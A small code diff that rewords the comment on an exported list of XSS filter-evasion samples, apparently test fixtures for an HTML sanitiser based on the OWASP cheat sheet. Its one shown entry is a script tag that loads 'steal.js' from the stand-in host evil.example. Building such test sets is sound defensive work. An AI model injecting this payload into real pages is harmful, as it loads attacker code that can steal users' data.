@@ -1,6 +1,6 @@
 /**
- * Ways to smuggle a script past a filter of HTML, one for each way the OWASP list of filter evasions names
- * (cheatsheetseries.owasp.org, "XSS Filter Evasion"), and some found since. Each would call `steal`.
+ * Scripts hidden in HTML, one for each technique of the OWASP list of filter evasions (cheatsheetseries.owasp.org, "XSS
+ * Filter Evasion"), and some found since. Each would call `steal`.
  */
 export const filterEvasions: readonly (readonly [way: string, source: string])[] = [
   ["a script from elsewhere", '<script src="https://evil.example/steal.js"></script>'],
